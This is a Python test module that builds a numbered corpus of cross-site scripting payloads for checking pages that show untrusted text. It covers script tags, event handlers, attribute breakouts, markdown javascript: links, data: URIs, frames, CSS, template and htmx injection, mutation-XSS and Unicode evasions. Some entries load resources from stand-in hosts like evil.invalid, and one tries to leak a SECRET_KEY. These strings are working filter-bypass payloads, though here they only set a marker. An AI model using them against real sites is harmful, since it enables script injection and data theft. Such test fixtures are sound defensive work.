"""XSS payloads for the pages that show untrusted text.

Each payload tries to run ``window.__xss = ID`` (or ``parent.__xss``/``top.__xss`` from a
frame) with its own ID, so a hit names the payload that got through. The families: script
tags, event handlers on HTML and SVG, attribute and element breakouts, markdown links and
images, data: and javascript: URIs, CSS, frames and srcdoc, forms and meta refresh, htmx
attributes, template syntaxes, mutation-XSS shapes and Unicode tricks.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

RUN = "window.__xss=ID"

# --- the families, as templates in which ID is the payload's number -----------------------

SCRIPT_TAGS = [
    "<script>window.__xss=ID</script>",
    "<SCRIPT>window.__xss=ID</SCRIPT>",
    "<ScRiPt>window.__xss=ID</sCrIpT>",
    "<script >window.__xss=ID</script >",
    "<script\n>window.__xss=ID</script\n>",
    "<script type=module>window.__xss=ID</script>",
    "<script type=text/javascript>window.__xss=ID;</script>",
    "<script src=data:text/javascript,window.__xss=ID></script>",
    "<script src='data:,window.__xss=ID'></script>",
    "<scr<script>ipt>window.__xss=ID</scr</script>ipt>",
    "<<script>script>window.__xss=ID<</script>/script>",
    "<script>/*</script><script>*/window.__xss=ID</script>",
    '"><script>window.__xss=ID</script>',
    "'><script>window.__xss=ID</script>",
    "</textarea><script>window.__xss=ID</script>",
    "</pre><script>window.__xss=ID</script>",
    "</title><script>window.__xss=ID</script>",
    "</code></pre></div><script>window.__xss=ID</script>",
    "</mark><script>window.__xss=ID</script>",
    "</details></summary><script>window.__xss=ID</script>",
    "--><script>window.__xss=ID</script>",
    "]]><script>window.__xss=ID</script>",
    "</script><script>window.__xss=ID</script>",
    "</style><script>window.__xss=ID</script>",
    "<svg><script>window.__xss=ID</script></svg>",
    "<svg><script href=data:,window.__xss=ID /></svg>",
    "<math><script>window.__xss=ID</script></math>",
    "<!--<script>-->window.__xss=ID<!--</script>-->",
]

# Tags that fire an event with no user action, each with its handler.
EVENT_TAGS = [
    ("img src=x", "onerror"),
    ("img src=/no-such-image.png", "onerror"),
    ("image src=x", "onerror"),
    ("svg", "onload"),
    ("svg/", "onload"),
    ("body", "onload"),
    ("iframe", "onload"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("video><source src=x", "onerror"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("keygen autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("marquee", "onstart"),
    ("object data=x", "onerror"),
    ("style", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("link rel=preload as=image href=x", "onerror"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x to=1", "onbegin"),
    ("svg><image href=x", "onerror"),
    ("div style=animation-name:spin;animation-duration:1s", "onanimationstart"),
    ("div tabindex=1 autofocus", "onfocusin"),
    ("a id=x tabindex=1 href=#x", "onfocus"),
    ("form><button autofocus", "onfocus"),
    ("table background=x", "onerror"),
    ("frameset", "onload"),
    ("embed src=x", "onerror"),
]
HANDLER_QUOTES = ["{h}={run}", '{h}="{run}"', "{h}='{run}'", "{h}=&#x77;indow.__xss=ID"]

BREAKOUTS = [
    '" onmouseover="window.__xss=ID',
    "' onmouseover='window.__xss=ID",
    '" autofocus onfocus="window.__xss=ID" x="',
    "' autofocus onfocus='window.__xss=ID' x='",
    '"><img src=x onerror=window.__xss=ID>',
    "'><img src=x onerror=window.__xss=ID>",
    "`><img src=x onerror=window.__xss=ID>",
    '" style="animation-name:spin" onanimationstart="window.__xss=ID',
    "</textarea><img src=x onerror=window.__xss=ID>",
    "</title><img src=x onerror=window.__xss=ID>",
    "</code><img src=x onerror=window.__xss=ID>",
    "<img/src/onerror=window.__xss=ID>",
    "<img src=x onerror\x0b=window.__xss=ID>",
    "<img src=x onerror\x0c=window.__xss=ID>",
    "<img src=`x`onerror=window.__xss=ID>",
    '<img src="x"onerror="window.__xss=ID">',
    "<img src=x:alert(alt) onerror=eval(src) alt=ID>",
    "<svg><g/onload=window.__xss=ID></svg>",
    "<svg><a xlink:href=javascript:window.__xss=ID><text y=20>x</text></a></svg>",
    "<x onclick=window.__xss=ID>click",
]

MARKDOWN = [
    "[click](javascript:window.__xss=ID)",
    "[click](JAVASCRIPT:window.__xss=ID)",
    "[click](javascript:window.__xss%3DID)",
    "[click](java&#x73;cript:window.__xss=ID)",
    "[click](&#106;avascript:window.__xss=ID)",
    "[click](javascript&colon;window.__xss=ID)",
    "[click](<javascript:window.__xss=ID>)",
    "[click]( javascript:window.__xss=ID)",
    "[click](\tjavascript:window.__xss=ID)",
    "[click](java\nscript:window.__xss=ID)",
    "[click](vbscript:window.__xss=ID)",
    "[click](livescript:window.__xss=ID)",
    "[click](data:text/html,<script>top.__xss=ID</script>)",
    "[click](data:text/html;base64,B64)",
    "[click][ref]\n\n[ref]: javascript:window.__xss=ID",
    "<javascript:window.__xss=ID>",
    "![x](javascript:window.__xss=ID)",
    '![x" onerror="window.__xss=ID](x)',
    '![x](x" onerror="window.__xss=ID)',
    "![x](https://tracker.invalid/pixel.png?ID)",
    "![](http://tracker.invalid/ID.gif)",
    "[![x](https://tracker.invalid/ID.png)](javascript:window.__xss=ID)",
    '[x](https://example.invalid "title\\" onmouseover=\\"window.__xss=ID")',
    '[x](https://example.invalid/" onmouseover="window.__xss=ID)',
    "`<img src=x onerror=window.__xss=ID>`",
    "```html\n<script>window.__xss=ID</script>\n```",
    "<div markdown=1>[x](javascript:window.__xss=ID)</div>",
    "| a |\n|---|\n| <img src=x onerror=window.__xss=ID> |",
    "> <script>window.__xss=ID</script>",
    "* [x](javascript:window.__xss=ID)\n* <svg onload=window.__xss=ID>",
    "# <img src=x onerror=window.__xss=ID>",
    "**<img src=x onerror=window.__xss=ID>**",
    "[x](mailto:a@b.invalid?body=<script>window.__xss=ID</script>)",
    '<a href="javascript:window.__xss=ID">x</a>',
    '<a href=" javascript:window.__xss=ID">x</a>',
    '<a href="jav&#x09;ascript:window.__xss=ID">x</a>',
]

DATA_AND_FRAMES = [
    "<iframe src=javascript:top.__xss=ID></iframe>",
    '<iframe srcdoc="<script>top.__xss=ID</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=top.__xss=ID&gt;"></iframe>',
    '<iframe src="data:text/html,<script>top.__xss=ID</script>"></iframe>',
    "<iframe src=data:text/html;base64,B64></iframe>",
    "<object data=javascript:window.__xss=ID></object>",
    '<object data="data:text/html,<script>top.__xss=ID</script>"></object>',
    '<embed src="data:text/html,<script>top.__xss=ID</script>">',
    "<embed src=javascript:window.__xss=ID>",
    "<frameset><frame src=javascript:top.__xss=ID></frameset>",
    "<form action=javascript:window.__xss=ID><input type=submit id=go></form>",
    "<form><button formaction=javascript:window.__xss=ID>go</button></form>",
    "<form id=f></form><button form=f formaction=javascript:window.__xss=ID>go</button>",
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=ID">',
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>top.__xss=ID</script>">',
    "<base href=javascript:window.__xss=ID//>",
    "<base href=https://evil.invalid/>",
    "<a href=data:text/html;base64,B64>x</a>",
    "<img src=data:image/svg+xml;base64,SVGB64>",
    '<svg><use href="data:image/svg+xml;base64,SVGB64#x"/></svg>',
    "<portal src=javascript:top.__xss=ID></portal>",
    "<isindex action=javascript:window.__xss=ID type=submit>",
]

CSS = [
    '<div style="background:url(javascript:window.__xss=ID)">x</div>',
    '<div style="width:expression(window.__xss=ID)">x</div>',
    '<div style="behavior:url(https://evil.invalid/x.htc)">x</div>',
    "<style>@import 'javascript:window.__xss=ID';</style>",
    "<style>@import url(https://evil.invalid/ID.css);</style>",
    "<style>body{background:url(https://tracker.invalid/ID.png)}</style>",
    "<style>*{x:expression(window.__xss=ID)}</style>",
    '<link rel=stylesheet href="https://evil.invalid/ID.css">',
    '<link rel=import href="data:text/html,<script>top.__xss=ID</script>">',
    "<style>@keyframes spin{}</style><div style=animation-name:spin onanimationstart=window.__xss=ID>",
    '<div style="background-image:url(&#1;javascript:window.__xss=ID)">x</div>',
    '<p style="-moz-binding:url(https://evil.invalid/xbl#x)">x</p>',
    "<svg><style>@import 'https://evil.invalid/ID.css'</style></svg>",
]

TEMPLATES = [
    "{{ 7*7 }} {{ request }} {% debug %}",
    "{{constructor.constructor('window.__xss=ID')()}}",
    "${window.__xss=ID}",
    "#{window.__xss=ID}",
    "<%= window.__xss=ID %>",
    "{{= window.__xss=ID }}",
    "{% load static %}{% csrf_token %}{{ settings.SECRET_KEY }}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=window.__xss=ID')}}",
    '<div hx-get="/" hx-trigger="load" hx-on::before-request="window.__xss=ID">x</div>',
    '<div hx-on:click="window.__xss=ID" id=h>x</div>',
    '<img src=x hx-on:error="window.__xss=ID">',
    '<div data-hx-on:htmx:load="window.__xss=ID" hx-get="/healthz" hx-trigger="load">x</div>',
    '<div hx-vals=\'js:{a: window.__xss=ID}\' hx-get="/healthz" hx-trigger="load">x</div>',
    '<div hx-get="/logout/" hx-trigger="load" hx-target="body">x</div>',
    "<template><script>window.__xss=ID</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=ID>"></noscript>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=ID>",
    '<svg></p><style><a id="</style><img src=x onerror=window.__xss=ID>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.__xss=ID>",
    "<xmp><img src=x onerror=window.__xss=ID></xmp>",
    "<listing>&lt;img src=x onerror=window.__xss=ID&gt;</listing>",
    "<textarea><img src=x onerror=window.__xss=ID></textarea>",
    "<title><img src=x onerror=window.__xss=ID></title>",
    "<plaintext><img src=x onerror=window.__xss=ID>",
]

UNICODE = [
    "\uff1cscript\uff1ewindow.__xss=ID\uff1c/script\uff1e",
    "\u202e>tpircs/<window.__xss=ID>tpircs<",
    "<scr\u200bipt>window.__xss=ID</scr\u200bipt>",
    "<img src=x on\u200berror=window.__xss=ID>",
    "\ufeff<script>window.__xss=ID</script>",
    "<img src=x onerror=window.__xss=ID\u2028>",
    "[x](j\u0430vascript:window.__xss=ID)",
    "%3Cscript%3Ewindow.__xss=ID%3C/script%3E",
    "&lt;script&gt;window.__xss=ID&lt;/script&gt;",
    "&amp;lt;img src=x onerror=window.__xss=ID&amp;gt;",
    "\\x3cscript\\x3ewindow.__xss=ID\\x3c/script\\x3e",
    "\\u003cscript\\u003ewindow.__xss=ID\\u003c/script\\u003e",
    "<\u0131mg src=x onerror=window.__xss=ID>",
    "<\u017fcript>window.__xss=ID</\u017fcript>",
    "\u00bcscript\u00bewindow.__xss=ID\u00bc/script\u00be",
    '<img src=x onerror="&#119;&#105;&#110;&#100;&#111;&#119;.__xss=ID">',
    '<img src=x onerror="\\u0077indow.__xss=ID">',
    "\U0001f600<script>window.__xss=ID</script>\U0001f600",
    '<a href="\u2028javascript:window.__xss=ID">x</a>',
    "';window.__xss=ID;//\";window.__xss=ID;//</script>",
    "'-window.__xss=ID-'",
    '\\";window.__xss=ID;//',
]


@dataclass(frozen=True)
class Payload:
    id: int
    family: str
    text: str


def _b64(html: str) -> str:
    return base64.b64encode(html.encode()).decode()


def _fill(template: str, number: int) -> str:
    """The template with its number, and its base64 documents (which carry the number too)."""
    html = f"<script>top.__xss={number}</script>"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="top.__xss={number}"/>'
    text = template.replace("ID", str(number)).replace("SVGB64", "\x01")
    return text.replace("B64", _b64(html)).replace("\x01", _b64(svg))


def corpus() -> list[Payload]:
    """Every payload with its own number (from 1), so a hit names the payload."""
    templates: list[tuple[str, str]] = [("script", t) for t in SCRIPT_TAGS]
    for tag, handler in EVENT_TAGS:
        for quoting in HANDLER_QUOTES:
            attribute = quoting.format(h=handler, run=RUN)
            templates.append(("event handler", f"<{tag} {attribute}>"))
    templates += [("breakout", t) for t in BREAKOUTS]
    templates += [("markdown", t) for t in MARKDOWN]
    templates += [("data/frame", t) for t in DATA_AND_FRAMES]
    templates += [("css", t) for t in CSS]
    templates += [("template/htmx/mxss", t) for t in TEMPLATES]
    templates += [("unicode", t) for t in UNICODE]
    out = []
    for number, (family, template) in enumerate(templates, start=1):
        out.append(Payload(number, family, _fill(template, number)))
    return out
